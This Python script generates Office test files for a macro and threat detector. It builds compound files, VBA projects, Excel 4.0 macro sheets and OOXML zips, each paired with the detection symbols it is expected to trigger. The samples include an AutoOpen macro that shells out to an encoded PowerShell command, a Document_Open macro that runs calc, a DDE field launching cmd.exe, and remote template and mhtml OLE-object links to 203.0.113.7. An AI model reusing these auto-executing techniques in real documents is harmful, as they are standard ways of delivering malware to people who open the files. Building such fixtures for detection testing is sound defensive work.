#!/usr/bin/python3
"""Office test documents built on the fly (standard library only): compound
files ([MS-CFB] v3) with VBA projects ([MS-OVBA] compression and dir
stream), BIFF8 workbooks with an Excel 4.0 macro sheet, and OOXML zips.

    /usr/bin/python3 tests/files/gen_office.py OUTDIR

writes the documents and OUTDIR/manifest.json: file name -> the OFFICE_*
symbols the office check must give it (none for the clean ones)."""

import json
import os
import struct
import sys
import zipfile

SECTOR = 512
MINI = 64
CUTOFF = 4096
ENDCHAIN = 0xFFFFFFFE
FREESECT = 0xFFFFFFFF
FATSECT = 0xFFFFFFFD
NOSTREAM = 0xFFFFFFFF


# --- [MS-OVBA] 2.4.1 compression -------------------------------------------

def _copy_bits(pos):
    bits = 4
    while bits < 12 and (1 << bits) < pos:
        bits += 1
    return bits


def _compress_chunk(data):
    out = bytearray()
    i = 0
    while i < len(data):
        flag_at = len(out)
        out.append(0)
        flags = 0
        for bit in range(8):
            if i >= len(data):
                break
            bits = _copy_bits(i)
            max_len = (0xFFFF >> bits) + 3
            best_len, best_off = 0, 0
            for off in range(1, min(i, 1 << (16 - bits)) + 1):
                n = 0
                while n < max_len and i + n < len(data) and data[i + n] == data[i - off + n]:
                    n += 1
                if n > best_len:
                    best_len, best_off = n, off
            if best_len >= 3:
                token = ((best_off - 1) << (16 - bits)) | (best_len - 3)
                out += struct.pack("<H", token)
                flags |= 1 << bit
                i += best_len
            else:
                out.append(data[i])
                i += 1
        out[flag_at] = flags
    return bytes(out)


def ovba_compress(data, literal_only=False):
    """A CompressedContainer of data: chunks of 4096 bytes, with copy
    tokens unless literal_only (literal-only chunks are valid too)."""
    out = bytearray(b"\x01")
    for start in range(0, max(len(data), 1), 4096):
        chunk = data[start:start + 4096]
        if literal_only:
            body = bytearray()
            for k in range(0, len(chunk), 8):
                body.append(0)
                body += chunk[k:k + 8]
        else:
            body = _compress_chunk(chunk)
        if len(body) > 4096:        # incompressible: a raw chunk of 4096 bytes
            out += struct.pack("<H", 0x3FFF) + chunk.ljust(4096, b"\0")
        else:
            out += struct.pack("<H", 0xB000 | (len(body) - 1)) + body
    return bytes(out)


# --- [MS-CFB] version 3 writer ---------------------------------------------

class _Node:
    def __init__(self, name, data=None):
        self.name, self.data, self.children = name, data, {}
        self.sid = 0
        self.start, self.size = ENDCHAIN, 0


def _cfb_key(name):
    return (len(name), name.upper())


def _chain(first, count, fat):
    for k in range(count):
        fat[first + k] = first + k + 1 if k + 1 < count else ENDCHAIN


def cfb_build(streams):
    """A compound file holding streams: {"Macros/VBA/dir": bytes, ...}."""
    root = _Node("Root Entry")
    for path, data in streams.items():
        node = root
        parts = path.split("/")
        for p in parts[:-1]:
            node = node.children.setdefault(p, _Node(p))
        node.children[parts[-1]] = _Node(parts[-1], data)
    order = []

    def walk(n):
        n.sid = len(order)
        order.append(n)
        for c in sorted(n.children.values(), key=lambda x: _cfb_key(x.name)):
            walk(c)
    walk(root)

    mini, minifat = bytearray(), []
    bigs = []
    for n in order[1:]:
        if n.data is None:
            continue
        n.size = len(n.data)
        if n.size < CUTOFF:
            if n.size == 0:
                continue
            first = len(mini) // MINI
            count = (n.size + MINI - 1) // MINI
            mini += n.data.ljust(count * MINI, b"\0")
            minifat += [first + k + 1 if k + 1 < count else ENDCHAIN for k in range(count)]
            n.start = first
        else:
            bigs.append(n)
    mini_secs = (len(mini) + SECTOR - 1) // SECTOR
    minifat_secs = (len(minifat) * 4 + SECTOR - 1) // SECTOR
    dir_secs = (len(order) * 128 + SECTOR - 1) // SECTOR
    big_secs = sum((n.size + SECTOR - 1) // SECTOR for n in bigs)
    other = big_secs + mini_secs + minifat_secs + dir_secs
    nfat = 1
    while nfat * (SECTOR // 4) < other + nfat:
        nfat += 1
    assert nfat <= 109
    fat = [FREESECT] * (nfat * (SECTOR // 4))
    body = bytearray()
    sec = nfat                      # FAT sectors first
    for k in range(nfat):
        fat[k] = FATSECT
    for n in bigs:
        count = (n.size + SECTOR - 1) // SECTOR
        n.start = sec
        _chain(sec, count, fat)
        body += n.data.ljust(count * SECTOR, b"\0")
        sec += count
    if mini_secs:
        root.start, root.size = sec, len(mini)
        _chain(sec, mini_secs, fat)
        body += bytes(mini).ljust(mini_secs * SECTOR, b"\0")
        sec += mini_secs
    minifat_start = sec if minifat_secs else ENDCHAIN
    if minifat_secs:
        _chain(sec, minifat_secs, fat)
        mf = b"".join(struct.pack("<I", v) for v in minifat)
        body += mf.ljust(minifat_secs * SECTOR, b"\xff")
        sec += minifat_secs
    dir_start = sec
    _chain(sec, dir_secs, fat)
    body += _directory(order).ljust(dir_secs * SECTOR, b"\0")
    header = bytearray(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16)
    header += struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
    header += struct.pack("<IIIIIIIII", 0, nfat, dir_start, 0, CUTOFF, minifat_start,
                          minifat_secs, ENDCHAIN, 0)
    difat = list(range(nfat)) + [FREESECT] * (109 - nfat)
    header += b"".join(struct.pack("<I", v) for v in difat)
    fatbytes = b"".join(struct.pack("<I", v) for v in fat)
    return bytes(header) + fatbytes + bytes(body)


def _directory(order):
    out = bytearray()
    for n in order:
        kids = sorted(n.children.values(), key=lambda x: _cfb_key(x.name))
        # siblings as a right-leaning chain: a valid (unbalanced) tree
        for a, b in zip(kids, kids[1:]):
            a.right = b.sid
        n.child = kids[0].sid if kids else NOSTREAM
    for n in order:
        name = n.name.encode("utf-16-le") + b"\0\0"
        kind = 5 if n.sid == 0 else (2 if n.data is not None else 1)
        e = name.ljust(64, b"\0") + struct.pack("<HBB", len(name), kind, 1)
        e += struct.pack("<III", NOSTREAM, getattr(n, "right", NOSTREAM), n.child)
        e += b"\0" * 16 + b"\0" * 4 + b"\0" * 16
        e += struct.pack("<IQ", n.start if (n.data or n.sid == 0) else 0, n.size)
        out += e
    return bytes(out)


# --- VBA project -------------------------------------------------------------

def _rec(rid, data):
    return struct.pack("<HI", rid, len(data)) + data


def vba_dir(modules, offset):
    d = _rec(0x01, struct.pack("<I", 1)) + _rec(0x02, struct.pack("<I", 0x409))
    d += _rec(0x14, struct.pack("<I", 0x409)) + _rec(0x03, struct.pack("<H", 1252))
    d += _rec(0x04, b"Project") + _rec(0x05, b"") + _rec(0x40, b"")
    d += _rec(0x06, b"") + _rec(0x3D, b"") + _rec(0x07, b"\0" * 4) + _rec(0x08, b"\0" * 4)
    d += struct.pack("<HIIH", 0x09, 4, 0x5FB6E1C3, 0x0E)     # PROJECTVERSION
    d += _rec(0x0C, b"") + _rec(0x3C, b"")
    d += _rec(0x0F, struct.pack("<H", len(modules))) + _rec(0x13, b"\xff\xff")
    for name in modules:
        a, u = name.encode("ascii"), name.encode("utf-16-le")
        d += _rec(0x19, a) + _rec(0x47, u) + _rec(0x1A, a) + _rec(0x32, u)
        d += _rec(0x1C, b"") + _rec(0x48, b"") + _rec(0x31, struct.pack("<I", offset))
        d += _rec(0x1E, b"\0" * 4) + _rec(0x2C, b"\xff\xff") + _rec(0x21, b"")
        d += _rec(0x2B, b"")
    d += _rec(0x10, b"")
    return d


def vba_streams(prefix, modules, literal_only=False):
    """Streams of a VBA project under prefix ("Macros/" in a .doc, "" in a
    vbaProject.bin): modules is {name: source}."""
    offset = 24                     # a stand-in PerformanceCache before the source
    s = {prefix + "VBA/dir": ovba_compress(vba_dir(list(modules), offset), literal_only),
         prefix + "VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
         prefix + "PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\n' +
         b"".join(b"Module=" + m.encode() + b"\r\n" for m in modules)}
    for name, src in modules.items():
        text = ('Attribute VB_Name = "%s"\r\n' % name + src).encode("latin-1")
        s[prefix + "VBA/" + name] = b"\0" * offset + ovba_compress(text, literal_only)
    return s


MALICIOUS = ('Sub AutoOpen()\r\n'
             '    Dim x\r\n'
             '    x = Shell("cmd.exe /c powershell -enc SQBFAFgA", vbHide)\r\n'
             'End Sub\r\n')
BENIGN = ('Sub FormatTable()\r\n'
          '    \' Shell out? no: only formatting\r\n'
          '    ActiveDocument.Tables(1).Rows(1).HeadingFormat = True\r\n'
          'End Sub\r\n')


def word_document(text="Hello from a test document.\r"):
    # a stand-in WordDocument stream, large enough for regular sectors
    return (b"\xec\xa5" + b"\0" * 30 + text.encode("latin-1")).ljust(5000, b"\0")


def ole_doc(modules, literal_only=False):
    s = {"WordDocument": word_document(), "1Table": b"\0" * 64,
         "\x01CompObj": b"\x01\xfe\0\0" + b"\0" * 60}
    s.update(vba_streams("Macros/", modules, literal_only))
    return cfb_build(s)


def biff_record(rtype, data):
    return struct.pack("<HH", rtype, len(data)) + data


def boundsheet(name, dt, state=0):
    return biff_record(0x0085, struct.pack("<IBBBB", 0, state, dt, len(name), 0) +
                       name.encode("latin-1"))


def ole_xls(macro_sheet=True):
    wb = biff_record(0x0809, struct.pack("<HHHHII", 0x600, 5, 0x2775, 0x7CD, 0, 0x206))
    wb += boundsheet("Sheet1", 0)
    if macro_sheet:
        wb += boundsheet("Macro1", 1, 1)
    wb += biff_record(0x000A, b"")
    return cfb_build({"Workbook": wb.ljust(4200, b"\0")})


# --- OOXML ---------------------------------------------------------------------

CT = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
      'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
      '%s</Types>')
RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        'relationships">%s</Relationships>')
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def rel(rid, rtype, target, external=False):
    return ('<Relationship Id="%s" Type="%s%s" Target="%s"%s/>' %
            (rid, R, rtype, target, ' TargetMode="External"' if external else ""))


def document_xml(body):
    return '<?xml version="1.0" encoding="UTF-8"?>\n<w:document %s><w:body>%s</w:body></w:document>' % (W, body)


PARA = '<w:p><w:r><w:t>Quarterly figures attached.</w:t></w:r></w:p>'


def docx(extra=None, doc_rels="", body=PARA):
    parts = {
        "[Content_Types].xml": CT % '<Override PartName="/word/document.xml" ContentType='
        '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>',
        "_rels/.rels": RELS % rel("rId1", "officeDocument", "word/document.xml"),
        "word/document.xml": document_xml(body),
        "word/_rels/document.xml.rels": RELS % (
            rel("rId1", "settings", "settings.xml") +
            rel("rId9", "hyperlink", "https://www.example.com/report", True) + doc_rels),
        "word/settings.xml": '<w:settings %s/>' % W,
    }
    parts.update(extra or {})
    return parts


def zip_bytes(parts, path):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)


DDE_BODY = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>'
            '<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe '
            '"/k calc.exe"</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
PAGE_FIELD = ('<w:p><w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "><w:r><w:t>1</w:t>'
              '</w:r></w:fldSimple></w:p>')


def build_all(out):
    """Writes every document into out; returns {file: [symbols]}."""
    os.makedirs(out, exist_ok=True)
    want = {}

    def put(name, data, symbols):
        if isinstance(data, dict):
            zip_bytes(data, os.path.join(out, name))
        else:
            with open(os.path.join(out, name), "wb") as f:
                f.write(data)
        want[name] = sorted(symbols)

    put("macro_autoopen.doc", ole_doc({"NewMacros": MALICIOUS}),
        ["OFFICE_MACRO", "OFFICE_MACRO_AUTOEXEC", "OFFICE_MACRO_SUSPICIOUS"])
    put("macro_literal.doc", ole_doc({"NewMacros": MALICIOUS}, literal_only=True),
        ["OFFICE_MACRO", "OFFICE_MACRO_AUTOEXEC", "OFFICE_MACRO_SUSPICIOUS"])
    put("macro_plain.doc", ole_doc({"Formatting": BENIGN}), ["OFFICE_MACRO"])
    put("clean.doc", cfb_build({"WordDocument": word_document(),
                                "1Table": b"\0" * 64}), [])
    put("clean.docx", docx(body=PARA + PAGE_FIELD), [])
    # made from a local template, with a linked local workbook: not remote
    put("local_links.docx", docx({"word/_rels/settings.xml.rels": RELS % rel(
        "rId1", "attachedTemplate", "file:///C:\\Users\\bob\\Templates\\Memo.dotm", True)},
        rel("rId8", "oleObject", "file:///C:\\Users\\bob\\Budget.xlsx", True)), [])
    vba = cfb_build(vba_streams("", {"ThisDocument": 'Private Sub Document_Open()\r\n'
                                     '  CreateObject("WScript.Shell").Run "calc"\r\nEnd Sub\r\n'}))
    put("macro.docm", docx({"word/vbaProject.bin": vba},
                           rel("rId5", "vbaProject", "vbaProject.bin")),
        ["OFFICE_MACRO", "OFFICE_MACRO_AUTOEXEC", "OFFICE_MACRO_SUSPICIOUS"])
    put("template.docx", docx({"word/_rels/settings.xml.rels": RELS % rel(
        "rId1", "attachedTemplate", "http://203.0.113.7/office/template.dotm", True)}),
        ["OFFICE_EXTERNAL_TEMPLATE"])
    put("remote_object.docx", docx(doc_rels=rel(
        "rId7", "oleObject", "mhtml:http://203.0.113.7/x.html!x-usc:http://203.0.113.7/x",
        True)), ["OFFICE_REMOTE_OBJECT"])
    put("dde.docx", docx(body=PARA + DDE_BODY), ["OFFICE_DDE"])
    put("xlm.xls", ole_xls(), ["OFFICE_XLM_MACRO"])
    put("clean.xls", ole_xls(False), [])
    put("xlm.xlsm", {
        "[Content_Types].xml": CT % "",
        "_rels/.rels": RELS % rel("rId1", "officeDocument", "xl/workbook.xml"),
        "xl/workbook.xml": "<workbook/>",
        "xl/macrosheets/sheet1.xml": '<xm:macrosheet xmlns:xm="http://schemas.microsoft.'
        'com/office/excel/2006/main"/>'}, ["OFFICE_XLM_MACRO"])
    put("corrupt.doc", ole_doc({"NewMacros": MALICIOUS})[:1024], ["OFFICE_CORRUPT"])
    with open(os.path.join(out, "manifest.json"), "w") as f:
        json.dump(want, f, indent=1, sort_keys=True)
    return want


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: gen_office.py OUTDIR")
    for name, syms in sorted(build_all(sys.argv[1]).items()):
        print(name, " ".join(syms) or "-")
